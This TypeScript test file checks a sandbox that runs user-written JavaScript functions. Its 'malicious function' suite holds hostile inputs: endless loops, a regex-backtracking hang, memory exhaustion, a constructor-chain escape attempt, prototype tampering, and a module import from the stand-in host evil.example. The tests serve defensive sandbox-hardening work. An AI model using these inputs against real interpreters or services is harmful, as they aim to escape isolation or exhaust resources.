import { describe, expect, it } from 'vitest';
import { runScript } from './run-script';
import { maxResultLength, type ScriptLimits } from './script-outcome';

const run = (source: string, argument: unknown = {}, limits?: ScriptLimits) =>
  runScript(source, JSON.stringify(argument), limits);

const quick: ScriptLimits = { bytes: 16 * 1024 * 1024, milliseconds: 300 };

describe('A function that a person wrote', () => {
  it('gets the arguments of the call and returns JSON', async () => {
    expect(await run('({ city }) => ({ city, degrees: 21 })', { city: 'Ürümqi 🏙' })).toEqual({
      ok: true,
      json: '{"city":"Ürümqi 🏙","degrees":21}',
    });
  });

  it('may be written with its name, be asynchronous, and end in a comment', async () => {
    const source = 'async function add({ a, b }) { await null; return a + b; } // done';
    expect(await run(source, { a: 2, b: 3 })).toEqual({ ok: true, json: '5' });
  });

  it.each([
    ['cannot be parsed', '({ city ) => 1', 'source'],
    ['is no function', '42', 'source'],
    ['is two statements', 'const f = 1; f', 'source'],
    ['throws', '() => { throw new TypeError("no such city") }', 'threw'],
    ['rejects', 'async () => { throw "late" }', 'threw'],
    ['returns nothing', '() => {}', 'no-json'],
    ['returns a cycle', '() => { const a = {}; a.a = a; return a }', 'threw'],
    ['never finishes', '() => new Promise(() => {})', 'waits'],
  ])('that %s is distinguished', async (_, source, kind) => {
    expect(await run(source)).toMatchObject({ ok: false, kind });
  });

  it('reports the line of an error', async () => {
    const outcome = await run('({ a }) => {\n  const b = 1;\n  return a.b.c;\n}');
    expect(outcome).toMatchObject({ kind: 'threw', line: 3 });
    expect(await run('() => {\n  return 1 +;\n}')).toMatchObject({ kind: 'source', line: 2 });
  });

  it('records what it prints, with the line, also when it fails', async () => {
    const source = '() => {\n  console.log("a", { b: 1 });\n  console.warn(2);\n  throw 1;\n}';
    expect(await run(source)).toMatchObject({
      ok: false,
      printed: [
        { level: 'log', text: 'a {"b":1}', line: 2 },
        { level: 'warn', text: '2', line: 3 },
      ],
    });
  });

  it('records no more than can be shown', async () => {
    const source =
      "() => { for (let i = 0; i < 5000; i++) console.log('x'.repeat(1e5)); return 1 }";
    const { printed = [] } = await run(source);
    expect(printed).toHaveLength(200);
    expect(printed[0]?.text.length).toBeLessThanOrEqual(1001);
  });

  it('reports the name and the message of the thrown error', async () => {
    const outcome = await run('() => { throw new TypeError("no such city") }');
    expect(outcome).toMatchObject({ message: 'TypeError: no such city' });
  });
});

describe('A malicious function', () => {
  it.each([
    ['an endless loop', '() => { for (;;); }'],
    ['endless promises', 'async () => { for (;;) await null }'],
    ['an endless search', "() => /^(a+)+$/.test('a'.repeat(40) + 'b')"],
    ['a thrown object whose message never ends', '() => { throw { get message() { for (;;); } } }'],
    ['a result that never ends writing itself', '() => ({ toJSON() { for (;;); } })'],
  ])('is stopped at its time: %s', async (_, source) => {
    expect(await run(source, {}, quick)).toMatchObject({ ok: false, kind: 'time' });
  });

  it.each([
    ['an array without end', '() => { const a = []; for (;;) a.push(new Uint8Array(1e6)) }'],
    ['objects without end', '() => { const a = []; for (;;) a.push({}) }'],
    ['one text', "() => 'x'.repeat(5e8)"],
    ['a buffer', '() => new ArrayBuffer(3e7)'],
    ['recursion', '() => { const f = (n) => f(n + 1) + 1; return f(0) }'],
  ])('is stopped at its memory: %s', async (_, source) => {
    const outcome = await run(source, {}, { ...quick, milliseconds: 60_000 });
    expect(outcome).toMatchObject({ ok: false, kind: 'memory' });
  });

  it('finds nothing of the page, the worker or the network', async () => {
    const names =
      'fetch XMLHttpRequest WebSocket self window document navigator indexedDB importScripts postMessage process require setTimeout WebAssembly';
    const source = `() => ${JSON.stringify(names.split(' '))}.filter((name) => name in globalThis)`;
    expect(await run(source)).toEqual({ ok: true, json: '[]' });
  });

  it('can load no module', async () => {
    expect(await run("() => import('https://evil.example/x.js')")).toMatchObject({ ok: false });
  });

  it('changes the prototypes of its own interpreter only', async () => {
    const source =
      '() => { Object.prototype.hurt = 1; Array.prototype.map = null; JSON.stringify = () => "{}"; return [1] }';
    expect(await run(source)).toEqual({ ok: true, json: '[1]' });
    expect('hurt' in {}).toBe(false);
    expect(await run('() => "hurt" in {}')).toEqual({ ok: true, json: 'false' });
  });

  it('reaches nothing through the constructors of its arguments', async () => {
    const source =
      "(given) => given.constructor.constructor('return typeof fetch + typeof postMessage')()";
    expect(await run(source, { a: 1 })).toEqual({ ok: true, json: '"undefinedundefined"' });
  });

  it('cannot return more than a model could read', async () => {
    const outcome = await run("() => 'x'.repeat(10_000_000)");
    expect(outcome).toMatchObject({ ok: false, kind: 'too-long' });
    const most = await run(`() => 'x'.repeat(${maxResultLength - 2})`);
    expect(most.ok).toBe(true);
  });

  it('treats a __proto__ in its arguments and its result as data', async () => {
    const outcome = await runScript('(given) => given', '{"__proto__":{"hurt":1}}');
    expect(outcome).toEqual({ ok: true, json: '{"__proto__":{"hurt":1}}' });
  });
});
